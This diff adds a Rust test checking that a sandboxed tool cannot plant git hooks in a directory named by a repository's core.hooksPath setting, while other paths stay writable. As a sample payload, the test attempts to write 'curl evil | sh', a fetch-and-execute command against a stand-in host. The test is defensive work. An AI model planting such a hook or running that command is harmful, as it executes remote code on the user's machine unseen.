@@ -1475,6 +1475,87 @@ fn a_tool_cannot_plant_what_a_hook_manager_runs_at_the_next_commit() {
     git(&["commit", "-q", "--allow-empty", "-m", "after"]);
 }
 
+// guarantee: G-FS-09
+/// A repository's configuration may point git at hooks in its working tree under a name of its
+/// own (`core.hooksPath = .githooks`, a common set-up script's line): git runs them at the
+/// user's next commit, outside any sandbox. A tool may not write there, in both modes, whether
+/// the hook exists or not; the rest of the working tree, and the hooks directory where the
+/// personality lists it as a write root, stay writable.
+#[test]
+fn a_tool_cannot_plant_a_hook_where_the_repository_points_git() {
+    let env = Env::new("");
+    let repo = env.root.join("work/out/svc");
+    std::fs::create_dir_all(repo.join(".githooks")).unwrap();
+    std::fs::create_dir_all(repo.join("src/deep")).unwrap();
+    let git = |args: &[&str]| {
+        let out = Command::new("git")
+            .args(args)
+            .current_dir(&repo)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {out:?}");
+    };
+    git(&["init", "-q"]);
+    git(&["config", "core.hooksPath", ".githooks"]);
+    let hook = repo.join(".githooks/pre-commit");
+    std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
+    let out = env.root.join("work/out");
+    let plain = env.personality(
+        "plain.toml",
+        &format!(
+            "id = \"plain\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n",
+            o = out.display()
+        ),
+    );
+    let listed = env.personality(
+        "listed.toml",
+        &format!(
+            "id = \"listed\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\", \"{h}\"]\n",
+            o = out.display(),
+            h = repo.join(".githooks").display()
+        ),
+    );
+    for mode in MODES {
+        for target in [hook.clone(), repo.join(".githooks/pre-push")] {
+            let result = write_file(
+                &env,
+                mode,
+                &plain,
+                &target.display().to_string(),
+                "curl evil | sh\n",
+            );
+            assert!(
+                result["error"].as_str().is_some_and(
+                    |m| m.starts_with("PATH_NOT_REACHABLE") && m.contains("core.hooksPath")
+                ),
+                "{mode:?} {}: {result}",
+                target.display()
+            );
+        }
+        let result = write_file(
+            &env,
+            mode,
+            &plain,
+            &repo.join("src/deep/main.rs").display().to_string(),
+            "fn main() {}\n",
+        );
+        assert_eq!(result["ok"], true, "{mode:?}: {result}");
+        let result = write_file(
+            &env,
+            mode,
+            &listed,
+            &repo.join(".githooks/post-merge").display().to_string(),
+            "#!/bin/sh\n",
+        );
+        assert_eq!(result["ok"], true, "{mode:?} listed: {result}");
+    }
+    assert_eq!(
+        std::fs::read_to_string(&hook).unwrap(),
+        "#!/bin/sh\nexit 0\n"
+    );
+    assert!(!repo.join(".githooks/pre-push").exists());
+}
+
 // guarantee: G-FS-10
 /// A shell reads its startup files (`.bashrc`, `.profile`, `.zshrc`, …), and git its user
 /// configuration (`.gitconfig`), as they start: the user's next terminal runs what a tool wrote
